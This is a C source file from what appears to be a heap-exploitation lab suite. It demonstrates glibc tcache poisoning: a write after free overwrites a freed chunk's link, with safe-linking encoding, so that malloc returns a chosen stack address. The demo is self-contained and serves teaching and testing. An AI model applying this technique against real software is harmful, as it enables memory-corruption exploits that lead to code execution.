/*
 * tcache_poisoning.c - overwrite the link of a chunk in the tcache, and
 * malloc returns any address.
 *
 * A tcache bin is a singly-linked list of freed chunks, and malloc takes its
 * head without looking at the chunk: no size check, as fastbins have.  A
 * write after free into the first word of a cached chunk, its link to the
 * next, points the list anywhere; two mallocs later that address is
 * returned.
 *
 * From 2.32 the link is stored encoded (safe-linking: XOR the link's own
 * address >> 12) and the address malloc takes must be 16-byte aligned
 * ("malloc(): unaligned tcache chunk detected").  Encoding needs the address
 * of the chunk written, here known (safe_linking_decryption.c shows how an
 * attacker recovers it from a leak).  Two chunks are freed, not one: from
 * 2.30 malloc trusts the bin's count, not the list, and the count must allow
 * two allocations.
 *
 * Works on 2.26 ... 2.36; before 2.26 there is no tcache.
 */
#include "tests/techniques/technique.h"

int main(void)
{
    technique_begin("tcache_poisoning", "Overwrite a cached chunk's link: the tcache then hands out the address "
                                        "it names.");
    if (!release_has_tcache())
        return technique_not_here("the tcache came with glibc 2.26");

    _Alignas(16) size_t stack_area[8] = {0};
    void *target = &stack_area[2];

    char *a = arenalloc_malloc(0x88);
    char *b = arenalloc_malloc(0x88);
    say("a = malloc(0x88) = %p, b = malloc(0x88) = %p.  The target, on the stack: %p.", (void *)a, (void *)b,
        target);
    arenalloc_free(a);
    arenalloc_free(b);
    say("free(a), free(b): the 0x90 tcache bin is b -> a, count 2.");

    /* LAB(tech-tcache_poisoning) BEGIN */
    *(uintptr_t *)b = protect_ptr(b, target);
    /* LAB(tech-tcache_poisoning) END */
    say("A write after free: b's link now names the target%s.",
        release_has_safe_linking() ? " (encoded: XOR (b >> 12))" : "");

    char *c = arenalloc_malloc(0x88);
    char *d = arenalloc_malloc(0x88);
    say("malloc(0x88) = %p (b), malloc(0x88) = %p.", (void *)c, (void *)d);

    return technique_end(d == target, "malloc returned the target on the stack");
}
